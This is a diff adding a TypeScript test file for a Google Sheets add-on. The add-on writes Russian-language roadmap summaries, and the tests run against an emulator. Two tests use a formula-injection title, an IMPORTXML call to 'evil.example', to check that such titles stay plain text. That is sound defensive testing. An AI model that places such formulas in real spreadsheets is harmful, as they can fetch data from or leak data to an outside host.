@@ -1,0 +1,268 @@
+/**
+ * The summaries writer against the offline emulator (no bundle): own sheets found by
+ * developer metadata, a user's sheets untouched, text kept as text, constant call count.
+ * Every case is judged on 2021-06-15.
+ */
+
+import { type WriteResult, writeSummaries } from '../../../src/addon/summaries/write';
+import type { Measure, MeasureState, Roadmap } from '../../../src/core/model';
+import type { SheetModel } from '../../../src/core/summary';
+import { buildCouncilReport, buildSummaries } from '../../../src/core/summary';
+import { Runtime } from '../../../src/local/emulator/runtime';
+import {
+  createSpreadsheetApp,
+  EmulatedRange,
+  type EmulatedSheet,
+  EmulatedSpreadsheet,
+} from '../../../src/local/emulator/spreadsheet';
+import { measure, roadmap, section, state } from '../../core/summary/fixtures';
+
+const today = '2021-06-15';
+const OWN_KEY = 'roadmap-tracker:sheet';
+
+/**
+ * Range.setRichTextValues is Google's batch call for links; until the emulator has it, this
+ * test-local stand-in records ONE ledger call and stores text and link as setRichTextValue does.
+ */
+const proto = EmulatedRange.prototype as unknown as Record<string, unknown>;
+if (typeof proto.setRichTextValues !== 'function') {
+  proto.setRichTextValues = function (
+    this: EmulatedRange,
+    values: { data: { text: string }; getLinkUrl(): string | null }[][],
+  ) {
+    const b = this.box;
+    this.sheet.ss.runtime.call('Spreadsheet', 'Range.setRichTextValues', { written: b.numRows * b.numColumns });
+    values.forEach((line, i) => {
+      line.forEach((v, j) => {
+        const cell = this.sheet.ensureCell(b.row + i, b.column + j);
+        cell.value = v.data.text === '' ? null : v.data.text;
+        cell.formula = undefined;
+        cell.linkUrl = v.getLinkUrl() ?? undefined;
+      });
+    });
+    return this;
+  };
+}
+
+function setup(): { runtime: Runtime; ss: EmulatedSpreadsheet } {
+  const runtime = new Runtime();
+  const ss = new EmulatedSpreadsheet(runtime, { name: 'Дорожная карта 2021', firstSheetName: 'Дорожная карта' });
+  const app = createSpreadsheetApp(runtime, { active: ss, ui: {} });
+  (globalThis as unknown as { SpreadsheetApp: unknown }).SpreadsheetApp = app;
+  return { runtime, ss };
+}
+
+function sample(
+  count: number,
+  titles: (i: number) => string = (i) => `Мероприятие ${i}`,
+): {
+  roadmap: Roadmap;
+  states: MeasureState[];
+} {
+  const sections = [
+    section('task-1', 'Задача 1', 'Задача 1. Нормативная база', 15),
+    section('task-2', 'Задача 2', 'Задача 2. Качество обучения', 16),
+  ];
+  const measures: Measure[] = [];
+  const states: MeasureState[] = [];
+  const codes = ['overdue', 'due-soon', 'in-progress', 'done-on-time', 'not-started'] as const;
+  for (let i = 0; i < count; i++) {
+    const row = 20 + i;
+    measures.push(
+      measure(row, {
+        number: `${(i % 2) + 1}.${i + 1}`,
+        sectionId: i % 2 === 0 ? 'task-1' : 'task-2',
+        title: titles(i),
+        executors: [`Исполнитель ${i % 7}`],
+        executorsText: `Исполнитель ${i % 7}`,
+      }),
+    );
+    const code = codes[i % codes.length] ?? 'not-started';
+    const due = code === 'overdue' ? '2021-05-31' : code === 'due-soon' ? '2021-06-18' : '2021-09-30';
+    states.push(state(row, code, due, today));
+  }
+  return { roadmap: roadmap(measures, sections), states };
+}
+
+function models(data: { roadmap: Roadmap; states: MeasureState[] }, ss: EmulatedSpreadsheet): SheetModel[] {
+  return [
+    ...buildSummaries({
+      ...data,
+      today,
+      updatedAt: '15.06.2021 09:00',
+      spreadsheetUrl: ss.getUrl(),
+      sheetGid: 0,
+    }),
+    buildCouncilReport({ ...data, from: '2021-05-01', to: '2021-05-31', updatedAt: '15.06.2021 09:00' }),
+  ];
+}
+
+/** The emulator implements the part of Spreadsheet the add-in uses (Pick<…> of Google's types). */
+function write(ss: EmulatedSpreadsheet, list: SheetModel[]): WriteResult {
+  return writeSummaries(ss as unknown as GoogleAppsScript.Spreadsheet.Spreadsheet, list);
+}
+
+function sheetNamed(ss: EmulatedSpreadsheet, name: string): EmulatedSheet {
+  const sheet = ss.getSheetByName(name);
+  if (!sheet) throw new Error(`no sheet ${name}`);
+  return sheet as EmulatedSheet;
+}
+
+describe('writeSummaries (2021-06-15)', () => {
+  it('leaves a user’s «Сводка» alone and names the add-in’s sheet differently', () => {
+    const { ss } = setup();
+    const mine = ss.insertSheet('Сводка');
+    mine.getRange(1, 1, 2, 2).setValues([
+      ['Мои заметки', 1],
+      ['не трогать', 2],
+    ]);
+    mine.setColumnWidth(1, 333);
+    const before = JSON.stringify(mine.snapshotBlock(5, 5));
+
+    const result = write(ss, models(sample(6), ss));
+
+    expect(JSON.stringify(mine.snapshotBlock(5, 5))).toBe(before);
+    expect(mine.getColumnWidth(1)).toBe(333);
+    expect(mine.getDeveloperMetadata()).toHaveLength(0);
+    expect(result.sheets.map((s) => [s.key, s.name, s.created])).toEqual([
+      ['summary', 'Сводка (дорожная карта)', true],
+      ['section:task-1', 'Задача 1', true],
+      ['section:task-2', 'Задача 2', true],
+      ['council', 'Отчёт для совета', true],
+    ]);
+    const own = sheetNamed(ss, 'Сводка (дорожная карта)');
+    expect(own.getDeveloperMetadata().map((m) => [m.getKey(), m.getValue()])).toEqual([[OWN_KEY, 'summary']]);
+    expect(own.getRange(1, 1).getValue()).toBe('Дорожная карта кластера на 2021 год');
+    expect(own.getCharts()).toHaveLength(1);
+  });
+
+  it('refreshes in place: same sheets, same positions, person-set widths and names kept', () => {
+    const { ss } = setup();
+    const first = write(ss, models(sample(6), ss));
+    const task1 = sheetNamed(ss, 'Задача 1');
+    task1.setColumnWidth(2, 512);
+    task1.setName('Моя задача 1');
+    ss.setActiveSheet(task1);
+    ss.moveActiveSheet(1);
+    const layout = () => ss.getSheets().map((s) => [s.getName(), s.getSheetId()]);
+    const before = layout();
+
+    const second = write(ss, models(sample(8), ss));
+
+    expect(layout()).toEqual(before);
+    expect(second.sheets.map((s) => s.created)).toEqual([false, false, false, false]);
+    expect(second.sheets.map((s) => s.key)).toEqual(first.sheets.map((s) => s.key));
+    expect(second.sheets[1]?.name).toBe('Моя задача 1');
+    expect(task1.getColumnWidth(2)).toBe(512);
+    expect(task1.getCharts()).toHaveLength(1);
+    expect(ss.getSheets()).toHaveLength(5);
+  });
+
+  it('rewrites an own sheet where the person merged cells past the block', () => {
+    const { ss } = setup();
+    write(ss, models(sample(4), ss));
+    const council = sheetNamed(ss, 'Отчёт для совета');
+    council.getRange(1, 5, 3, 4).merge();
+    expect(() => write(ss, models(sample(4), ss))).not.toThrow();
+    expect(council.getRange(5, 1).getValue()).toBe('№');
+  });
+
+  it('clears what the previous, longer summary left below', () => {
+    const { ss } = setup();
+    write(ss, models(sample(40), ss));
+    const rowsBefore = sheetNamed(ss, 'Задача 1').getLastRow();
+    write(ss, models(sample(4), ss));
+    const sheet = sheetNamed(ss, 'Задача 1');
+    expect(sheet.getLastRow()).toBeLessThan(rowsBefore);
+    expect(sheet.getRange(sheet.getLastRow() + 1, 1, 5, 8).isBlank()).toBe(true);
+  });
+
+  it('keeps titles starting with = + - @ as text and «2.1» as the text «2.1»', () => {
+    const { ss } = setup();
+    const tricky = ['=IMPORTXML("http://evil.example/x","//a")', '+7 (3822) 00-00-00', '-1 день', '@x отдел'];
+    write(
+      ss,
+      models(
+        sample(4, (i) => tricky[i] ?? ''),
+        ss,
+      ),
+    );
+
+    expect(ss.formulaLog).toEqual([]);
+    const sheet = sheetNamed(ss, 'Сводка');
+    const values = sheet.getDataRange().getValues();
+    for (const t of tricky) expect(values.some((r) => r.includes(t))).toBe(true);
+    const council = sheetNamed(ss, 'Отчёт для совета').getDataRange().getValues();
+    const numbers = values.map((r) => r[0]);
+    expect(numbers).toContain('1.1');
+    expect(numbers).toContain('2.2');
+    expect(council.some((r) => r[0] === '1.1')).toBe(true);
+  });
+
+  it('would have made formulas and dates without the text format (the check above can fail)', () => {
+    const { ss } = setup();
+    const scratch = ss.insertSheet('Черновик');
+    scratch.getRange(1, 1, 1, 2).setValues([['=IMPORTXML("http://evil.example/x","//a")', '2.1']]);
+    expect(ss.formulaLog.map((f) => f.a1)).toEqual(['A1']);
+    expect(scratch.getRange(1, 2).getValue()).not.toBe('2.1');
+  });
+
+  it('writes due dates as dates and links each measure to its row', () => {
+    const { ss } = setup();
+    write(ss, models(sample(2), ss));
+    const sheet = sheetNamed(ss, 'Задача 1');
+    const values = sheet.getDataRange().getValues();
+    const r = values.findIndex((line) => line[1] === 'Мероприятие 0');
+    expect(r).toBeGreaterThan(0);
+    const due = values[r]?.[4];
+    expect(due).toBeInstanceOf(Date);
+    expect(sheet.getRange(r + 1, 5).getDisplayValue()).toBe('31.05.2021');
+    const link = sheet.getRange(r + 1, 8).getRichTextValue();
+    expect(link?.getText()).toBe('стр. 20');
+    expect(link?.getLinkUrl()).toBe(`${ss.getUrl()}#gid=0&range=A20`);
+  });
+
+  it('marks an own task sheet «устарело» when its task is gone, and never deletes it', () => {
+    const { ss } = setup();
+    write(ss, models(sample(4), ss));
+    const data = sample(4);
+    const oneSection: Roadmap = {
+      ...data.roadmap,
+      sections: data.roadmap.sections.slice(0, 1),
+      measures: data.roadmap.measures.map((m) => ({ ...m, sectionId: 'task-1' })),
+    };
+    const result = write(ss, models({ roadmap: oneSection, states: data.states }, ss));
+    expect(result.sheets.find((s) => s.key === 'section:task-2')).toMatchObject({ stale: true, name: 'Задача 2' });
+    const stale = sheetNamed(ss, 'Задача 2');
+    expect(String(stale.getRange(2, 1).getValue())).toMatch(/^Устарело/);
+  });
+
+  it('makes the same number of Spreadsheet calls for 100 and 5,000 measures', () => {
+    /** Calls of a first write (sheets created) and of a refresh, by method. */
+    const total: number[] = [];
+    const calls = (n: number): { create: Record<string, number>; refresh: Record<string, number> } => {
+      const { runtime, ss } = setup();
+      runtime.ledger.reset();
+      write(ss, models(sample(n), ss));
+      const create = runtime.ledger.totals().byMethod;
+      runtime.ledger.reset();
+      write(ss, models(sample(n), ss));
+      total.push(runtime.ledger.totals().spreadsheetCalls);
+      return { create, refresh: runtime.ledger.totals().byMethod };
+    };
+    const spreadsheetOnly = (byMethod: Record<string, number>, skip: string[] = []) =>
+      Object.entries(byMethod)
+        .filter(([k]) => k.startsWith('Spreadsheet.') && !skip.includes(k))
+        .sort(([a], [b]) => a.localeCompare(b));
+    const small = calls(100);
+    const large = calls(5000);
+    expect(spreadsheetOnly(large.refresh)).toEqual(spreadsheetOnly(small.refresh));
+    expect(total[0]).toBe(total[1]); // runtime.ledger.totals().spreadsheetCalls of the two refreshes
+    // A new sheet has 1,000 rows: a longer block adds them with ONE insertRowsAfter per sheet.
+    const growth = ['Spreadsheet.Sheet.insertRowsAfter'];
+    expect(spreadsheetOnly(large.create, growth)).toEqual(spreadsheetOnly(small.create, growth));
+    expect(large.create['Spreadsheet.Sheet.insertRowsAfter'] ?? 0).toBeLessThanOrEqual(4);
+    expect(small.create['Spreadsheet.Sheet.insertRowsAfter'] ?? 0).toBe(0);
+    expect(spreadsheetOnly(small.refresh).length).toBeGreaterThan(10);
+  });
+});
